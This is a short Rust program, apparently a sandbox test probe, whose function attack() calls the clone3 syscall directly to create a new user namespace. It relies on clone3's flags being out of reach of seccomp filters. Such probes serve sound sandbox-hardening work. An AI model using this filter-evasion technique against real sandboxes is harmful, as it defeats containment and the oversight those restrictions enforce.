//! Makes a process in a user namespace of its own, by a call whose flags no filter sees.

mod raw;
mod sum;

fn main() {
    sum::print_unless(attack());
}

/// Whether it worked.
fn attack() -> bool {
    let mut arguments = [0u64; 11];
    arguments[0] = 0x1000_0000;
    arguments[4] = 17;
    let pid = unsafe { raw::syscall(raw::CLONE3, arguments.as_mut_ptr(), 88) };
    if pid == 0 {
        unsafe { raw::_exit(0) };
    }
    pid > 0
}
